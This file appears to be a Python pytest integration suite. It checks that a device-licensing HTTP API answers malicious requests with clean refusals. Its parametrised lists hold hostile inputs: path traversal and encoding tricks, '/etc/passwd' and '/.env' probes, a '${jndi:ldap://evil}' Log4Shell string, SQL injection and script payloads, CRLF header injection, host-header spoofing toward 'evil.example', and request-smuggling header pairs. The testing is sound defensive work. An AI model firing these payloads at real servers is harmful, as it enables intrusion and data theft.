"""Requests that mean harm by their HTTP: paths, verbs, headers, hosts. Each gets a refusal in our form, no 5xx."""

from __future__ import annotations

import re
import time
import uuid

import pytest

from tests.integration.http_client import mailed_token
from tests.integration.tenancy.callers import Caller
from tests.integration.tenancy.declared import OF_ROUTE
from tests.integration.tenancy.raw import request, send_raw
from tests.integration.tenancy.world import World

pytestmark = pytest.mark.usefixtures("no_surprise")


def login(world: World, name: str = "stranger") -> str:
    """Return the header of somebody's login."""
    return f"Authorization: Bearer {world.person(name).tokens['access_token']}"


# What names nothing, however it is written; an answer that is the owner's would be 200.
PATHS = (
    "//v1/me", "/v1//me", "/v1/me/", "/v1/./me", "/v1/%2e/me", "/v1/%2E%2E/v1/me", "/v1/../v1/me", "/v1/me/..",
    "/v1/me%00", "/v1/me%20", "/v1/me%0a", "/v1/me;x=1", "/v1/me%3Fx=1", "/v1/me%23", "/V1/me", "/v1/ME", "/v1%2fme",
    "/v1/projects/..%2f..%2fme", "/v1/projects/%252e%252e%252fme", "/v1/devices/..", "/v1/devices/%2e%2e/me",
    "/v1/devices/%c0%ae%c0%ae", "/v1/devices/%ff", "/v1/devices/%e2%80%ae", "/v1/devices/%ef%bc%90%ef%bc%91",
    "/v1/devices/" + "a" * 5000, "/v1/devices/" + "%61" * 2000, "/v1" + "/a" * 3000, "/v1/devices/%", "/v1/devices/%zz",
    "/v1/devices/null", "/v1/devices/0", "/v1/devices/-1", "/v1/devices/%27%20OR%201%3D1--", "/v1/devices/%7B%7D",
    "/v1/devices/{device_id}", "/device/v1/", "/device/v1/..%2f..%2fv1%2fme/license-file",
    "/device/v1/%00/license-file",
    "/healthz/..%2fv1%2fme", "/readyz/", "/metrics", "/details", "/.env", "/openapi.json/", "/docs/../v1/me", "*",
    "/v1/license-files/" + "f" * 300, "/v1/orders/%2e%2e/devices",
)  # fmt: skip


@pytest.mark.parametrize("target", PATHS, ids=lambda target: target[:40])
def test_tricks_in_a_path_lead_nowhere(world: World, target: str) -> None:
    for name in ("stranger", "owner"):
        answer = send_raw(world.installation.base, request("GET", target, login(world, name), f"X-Trick: {name}"))
        answer.check()
        assert answer.status in (400, 404, 422, 431), (target, answer)


def test_ids_of_the_owner_in_odd_spellings_are_not_there(world: World) -> None:
    device = world.things["device"]
    spellings = (device.upper(), f"{{{device}}}", device.replace("-", ""), f"urn:uuid:{device}",
                 f"{device}%0d%0a", f"{device}%0a", f"{device}%00", f"{device}%2f", f"{device}.json")  # fmt: skip
    for spelling in spellings:
        for name in ("stranger", "owner"):
            target = f"/v1/devices/{spelling}"
            answer = send_raw(world.installation.base, request("GET", target, login(world, name)))
            answer.check()
            assert answer.status == 404, (target, answer)


def test_an_escaped_path_is_the_same_route_with_the_same_rights(world: World) -> None:
    base = world.installation.base
    assert send_raw(base, request("GET", "/%76%31/%6de")).status == 401
    answer = send_raw(base, request("GET", f"/%76%31/devices/{world.things['device']}", login(world)))
    assert (answer.status, answer.code) == (404, "devices.device_not_found")
    assert send_raw(base, request("GET", "/%64evice/v1/00-90-33-08-20-20/license-file")).status == 401


@pytest.mark.parametrize("method", ["OPTIONS", "TRACE", "CONNECT", "PROPFIND", "PURGE", "get", "POST", "BREW", "HEAD"])
def test_verbs_that_a_path_does_not_take_are_refused(world: World, method: str) -> None:
    paths = {row.path for row in OF_ROUTE.values()}
    for path in sorted(paths):
        if f"{method} {path}" in OF_ROUTE or (method == "HEAD" and f"GET {path}" in OF_ROUTE):
            continue
        target = re.sub(r"\{\w+\}", world.things["device"], path)
        answer = send_raw(world.installation.base, request(method, target, login(world, "owner")))
        answer.check()
        assert answer.status == 405, (method, path, answer)
        allowed = {route.split(" ")[0] for route in OF_ROUTE if route.endswith(f" {path}")}
        assert allowed <= set(answer.headers["allow"].split(", ")), answer


def test_head_tells_no_more_than_get(world: World) -> None:
    base = world.installation.base
    for target in ("/v1/me", f"/v1/devices/{world.things['device']}", "/v1/projects", "/v1/staff/users", "/healthz"):
        for name in ("stranger", "owner"):
            shown = send_raw(base, request("GET", target, login(world, name)))
            hidden = send_raw(base, request("HEAD", target, login(world, name)))
            assert (hidden.status, hidden.content) == (shown.status, b""), (target, hidden)


@pytest.mark.parametrize(
    "host",
    ["evil.example", "localhost.evil.example", "localhost:80@evil.example", "evil.example#localhost",
     "127.0.0.1.nip.io", "localhost, evil.example", "[::1].evil.example", "0x7f.1", "lоcalhost", "localhost/../evil",
     "localhost\t.evil"],
)  # fmt: skip
def test_another_host_is_not_answered_for(world: World, host: str) -> None:
    answer = send_raw(world.installation.base, request("GET", "/v1/me", login(world), host=host))
    answer.check()
    assert answer.status in (400, 421), answer


def test_links_in_mails_come_from_the_configuration_whatever_the_headers_say(world: World) -> None:
    address = world.email("neighbor")
    body = f'{{"email": "{address}"}}'.encode()
    headers = ("Content-Type: application/json", "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: gopher",
               "Forwarded: host=evil.example;proto=https", "X-Original-URL: /v1/me", "X-Rewrite-URL: /v1/me",
               "Origin: https://evil.example", "Referer: https://evil.example/")  # fmt: skip
    answer = send_raw(world.installation.base, request("POST", "/v1/password-resets", *headers, body=body))
    assert answer.status == 202
    assert not [name for name in answer.headers if name.startswith("access-control")]
    assert mailed_token(world.installation.mail_folder, address, "reset")
    for path in world.installation.mail_folder.glob("*.eml"):
        assert b"evil.example" not in path.read_bytes()


HEADERS = (
    "X-Request-Id: " + "a" * 5000, "X-Request-Id: a b", "X-Request-Id: ${jndi:ldap://evil}", "X-Request-Id: \u202e",
    "Accept-Language: " + "de;q=" * 500, "Accept-Language: de;q=nan, en;q=1e999", "Accept-Language: ../../etc/passwd",
    "Accept: application/vnd.evil", "Accept: */*;q=-1", "Accept-Encoding: gzip, br, evil", "Range: bytes=0-1000000000",
    "If-None-Match: *", "If-None-Match: W/\"" + "a" * 3000 + "\"", "If-Match: \"a\"", "If-Match: 99999999999999999999",
    "If-Modified-Since: yesterday", "Cookie: session=admin; staff=true", "X-HTTP-Method-Override: DELETE",
    "X-Method-Override: DELETE", "X-Forwarded-For: 127.0.0.1, ::1, evil", "X-Forwarded-For: " + "1.2.3.4," * 500,
    "X-User-Id: admin", "X-Company-Id: 1", "X-Staff: true", "Authorization-Override: Bearer a", "Upgrade: websocket",
    "Connection: Upgrade, HTTP2-Settings", "Expect: 100-continue, evil", "TE: trailers", "Max-Forwards: 0",
    "Content-Type: application/json; charset=utf-7", "Content-Encoding: gzip", "Idempotency-Key: ",
    "Idempotency-Key: " + "k" * 500, "Idempotency-Key: a b", "Idempotency-Key: ключ", "User-Agent: " + "u" * 9000,
    "User-Agent: <script>alert(1)</script>\x7f", "Via: 1.1 evil", "Content-Length: 0", "Proxy: http://evil.example",
)  # fmt: skip


@pytest.mark.parametrize("header", HEADERS, ids=lambda header: header[:30].encode("ascii", "replace").decode())
def test_odd_headers_change_nobodys_rights_and_break_nothing(world: World, header: str) -> None:
    base, device = world.installation.base, world.things["device"]
    target = f"/v1/devices/{device}"
    for method, body in (("GET", b""), ("PATCH", b'{"comment": "x"}')):
        media = ("Content-Type: application/json",) if body and not header.startswith("Content-Type") else ()
        answer = send_raw(base, request(method, target, login(world), header, *media, body=body))
        answer.check()
        assert answer.status >= 400, (header, answer)
    answer = send_raw(base, request("GET", target, login(world, "owner"), header))
    answer.check()
    # Nothing was deleted or changed, by no name of a method in a header.
    assert world.owner.get(f"/v1/devices/{device}").expect(200)["comment"] != "x"
    assert "set-cookie" not in answer.headers
    assert len(answer.headers.get("x-request-id", "")) <= 64


def test_header_lines_cannot_be_injected(world: World) -> None:
    base = world.installation.base
    for injected in ("a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\rX-Evil: 1", "a%0d%0aX-Evil: 1", "a\x00b"):
        answer = send_raw(base, request("GET", "/v1/me", login(world), f"X-Request-Id: {injected}"))
        answer.check()
        assert "x-evil" not in answer.headers
    # What a room stores comes back in a header: the address of an order, the name of a file.
    number = f"A/B {uuid.uuid4().hex[:8]}"
    body = {"number": number, "licenses": [{"license_type": "port8", "quantity": 1}]}
    made = world.staff.post("/v1/staff/orders", body)
    made.expect(201)
    assert world.staff.get(made.headers["Location"]).expect(200)["number"] == number.upper()
    for evil in ("4711\r\nSet-Cookie: a=b", "4711\nX: y", "ÄÖ", "4711\u202e", "../users"):
        world.staff.post("/v1/staff/orders", {**body, "number": evil}).expect(422)


def test_two_requests_cannot_be_smuggled_as_one(world: World) -> None:
    base = world.installation.base
    inner = "GET /v1/staff/users HTTP/1.1\r\nHost: localhost\r\n\r\n"
    tricks = (
        ("Content-Length: 5", "Transfer-Encoding: chunked"), ("Content-Length: 5", "Content-Length: 6"),
        ("Transfer-Encoding: xchunked",), ("Transfer-Encoding : chunked",), ("Transfer-Encoding: chunked, identity",),
        ("Content-Length: +5",), ("Content-Length: 0x5",), ("Content-Length: 5 5",), ("Content-Length: -0",),
    )  # fmt: skip
    for headers in tricks:
        lines = "\r\n".join(["POST /v1/projects HTTP/1.1", "Host: localhost", login(world), *headers, "", ""])
        answer = send_raw(base, (lines + "0\r\n\r\n" + inner).encode())
        answer.check()
        assert answer.status in (400, 411), (headers, answer)


def test_it_still_serves(world: World, callers: dict[str, Caller]) -> None:
    started = time.monotonic()
    callers["own admin"].send("GET", f"/v1/devices/{world.things['device']}").expect(200)
    assert time.monotonic() - started < 5
